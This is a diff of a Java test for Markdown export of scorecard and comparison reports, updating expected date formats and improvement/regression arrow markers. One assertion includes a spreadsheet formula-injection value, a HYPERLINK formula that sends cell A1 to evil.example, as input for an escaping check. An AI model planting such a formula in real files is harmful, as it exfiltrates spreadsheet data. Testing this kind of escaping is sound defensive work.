@@ -64,7 +64,7 @@ class MarkdownExportTest extends WithExportFixture {
         // The open action of Q2 shows too, as on the scorecard; "|" and "*" cannot break the table.
         assertThat(md).contains("""
                 | open | \\+notify the team |  |  | P2 |
-                | done | Add tools \\| \\*now\\* | Ann | 2026-04-01 | P1 |
+                | done | Add tools \\| \\*now\\* | Ann | 1 Apr 2026 | P1 |
                 """);
     }
 
@@ -87,8 +87,8 @@ class MarkdownExportTest extends WithExportFixture {
 
         // Change = shown(0.0) − shown(83.3) = −83.3; the first row has nothing to compare with.
         assertThat(md).startsWith("# Search ranking: debt history\n").contains("""
-                | 2026-Q1 | 2026-03-10 | tiny 1.0 | final | 83.3 | \u2014 | Bad | 3/3 |
-                | 2026-Q2 | 2026-06-10 | tiny 1.0 | draft | 0.0 | -83.3 | Good | 1/3 (partial) |
+                | 2026-Q1 | 10 Mar 2026 | tiny 1.0 | final | 83.3 | \u2014 | Bad | 3/3 |
+                | 2026-Q2 | 10 Jun 2026 | tiny 1.0 | draft | 0.0 | \u25BC -83.3 improved | Good | 1/3 (partial) |
                 """).contains("## Open actions").contains("| \\+notify the team |  |  | P2 |\n")
                 .doesNotContain("Add tools");
     }
@@ -111,17 +111,18 @@ class MarkdownExportTest extends WithExportFixture {
         }
 
         assertThat(md).startsWith("# Comparison: Search ranking 2026-Q1 \u2192 Search ranking 2026-Q2\n")
-                .contains("| Debt index | 83.3 | 0.0 | -83.3 (improved) |\n")
+                .contains("| Debt index | 83.3 | 0.0 | \u25BC -83.3 improved |\n")
                 .contains("| Grade | Bad | Good |  |\n")
                 // 16.7 → 100.0 as shown.
-                .contains("| One | 16.7 | 100.0 | +83.3 |\n")
+                .contains("| One | 16.7 | 100.0 | +83.3 (\u25BC improved) |\n")
                 // p1: score 0 → 1 on a 3-level scale is 2 steps.
                 .contains("| P1 | One | 0 No | 1 Yes | +2 | Before: \\=HYPERLINK(\"http://evil.example/?\"\\&A1,\"Click\")"
                         + " After: Tabbed, with a comma |\n")
-                .contains("## Regressed items (0)\n\nNone.")
+                .contains("## \u25BC Improved items (1)\n").contains("## \u25B2 Regressed items (0)\n\nNone.")
+                .doesNotContain("\u25B2 -").doesNotContain("\u25B2 improved")
                 // p2 (0.5 → n/a) and l1 (no → unanswered) have no score on one side.
                 .contains("0 unchanged, 2 not comparable (not applicable or unanswered on a side), 0 only before, 0 only after.")
                 // Done on 2026-05-01, between 2026-03-10 and 2026-06-10; its item p1 improved.
-                .contains("| Add tools \\| \\*now\\* | done | 2026-05-01 | P1 | improved |\n");
+                .contains("| Add tools \\| \\*now\\* | done | 1 May 2026 | P1 | \u25BC improved |\n");
     }
 }
